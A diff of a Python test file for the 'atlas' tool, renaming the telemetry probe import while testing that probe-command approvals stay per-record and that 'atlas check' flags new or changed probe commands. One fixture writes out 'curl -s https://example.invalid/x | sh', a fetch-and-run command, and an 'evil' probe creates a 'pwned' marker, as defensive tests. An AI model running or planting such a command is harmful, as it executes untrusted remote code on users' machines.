@@ -13,8 +13,8 @@ import pytest
 import yaml
 from conftest import Result, run_atlas
 
-from atlas_files import telemetry as tm
 from atlas_files.record import Record
+from atlas_files.telemetry import probe as probemod
 from atlas_files.telemetry import trust
 
 SAMPLE = json.dumps({"host": "box", "sampled_at": None,
@@ -96,9 +96,9 @@ def test_an_approval_holds_for_its_record_only(record: Record, tmp_path: Path) -
     _set_probe(record, "evil", _touch(pwned))
     trust.approve(record, "evil", _touch(pwned))
     copy = Record(shutil.copytree(record.root, tmp_path / "copy"))
-    (outcome,) = tm.probe_once(copy, "prober", ["evil"])
+    (outcome,) = probemod.probe_once(copy, "prober", ["evil"])
     assert outcome.not_run and not outcome.reachable and not pwned.exists()
-    (outcome,) = tm.probe_once(record, "prober", ["evil"])
+    (outcome,) = probemod.probe_once(record, "prober", ["evil"])
     assert not outcome.not_run and pwned.exists()
 
 
@@ -198,8 +198,8 @@ def _findings(res: Result) -> list[tuple[str, int, str, str]]:
 
 def test_check_reports_a_new_or_changed_probe_command(repo: Path) -> None:
     record = Record(repo / "rec")
-    tm.add_machine(record, "here", "local")
-    tm.add_machine(record, "gpubox", "ssh gpubox atlas telemetry sample --json")
+    probemod.add_machine(record, "here", "local")
+    probemod.add_machine(record, "gpubox", "ssh gpubox atlas telemetry sample --json")
     line = (repo / "rec" / "atlas.yaml").read_text().splitlines().index("  gpubox:") + 1
     _git(repo, "add", "-A")
     staged = run_atlas("check", "--staged", "--json", cwd=repo)
@@ -217,7 +217,7 @@ def test_check_reports_a_new_or_changed_probe_command(repo: Path) -> None:
     assert run_atlas("check", "--staged", cwd=repo).returncode == 0
     assert run_atlas("check", cwd=repo / "rec").returncode == 0
 
-    tm.add_machine(record, "gpubox", "curl -s https://example.invalid/x | sh")
+    probemod.add_machine(record, "gpubox", "curl -s https://example.invalid/x | sh")
     _git(repo, "add", "-A")
     changed = run_atlas("check", "--staged", "--json", cwd=repo)
     assert changed.returncode == 1
@@ -229,7 +229,7 @@ def test_check_reports_a_new_or_changed_probe_command(repo: Path) -> None:
 
     # Only what can make someone run something new: not a timeout, not a removal.
     _git(repo, "reset", "-q", "--hard")
-    tm.add_machine(Record(repo / "rec"), "gpubox", "ssh gpubox atlas telemetry sample --json",
+    probemod.add_machine(Record(repo / "rec"), "gpubox", "ssh gpubox atlas telemetry sample --json",
                    timeout="30s")
     config = repo / "rec" / "atlas.yaml"
     raw = yaml.safe_load(config.read_text())
@@ -243,10 +243,10 @@ def test_check_reports_a_new_or_changed_probe_command(repo: Path) -> None:
 def test_plain_check_outside_git_or_of_an_untracked_record_says_nothing_of_machines(
         tmp_path: Path, repo: Path) -> None:
     loose = Record.init(tmp_path / "loose", ["web"])
-    tm.add_machine(loose, "gpubox", "ssh gpubox atlas telemetry sample --json")
+    probemod.add_machine(loose, "gpubox", "ssh gpubox atlas telemetry sample --json")
     assert run_atlas("check", cwd=loose.root).returncode == 0
     untracked = Record.init(repo / "later", ["web"])
-    tm.add_machine(untracked, "gpubox", "ssh gpubox atlas telemetry sample --json")
+    probemod.add_machine(untracked, "gpubox", "ssh gpubox atlas telemetry sample --json")
     assert run_atlas("check", cwd=untracked.root).returncode == 0
     _git(repo, "add", "later/atlas.yaml")  # staged: now about to be committed
     res = run_atlas("check", "--json", cwd=untracked.root)
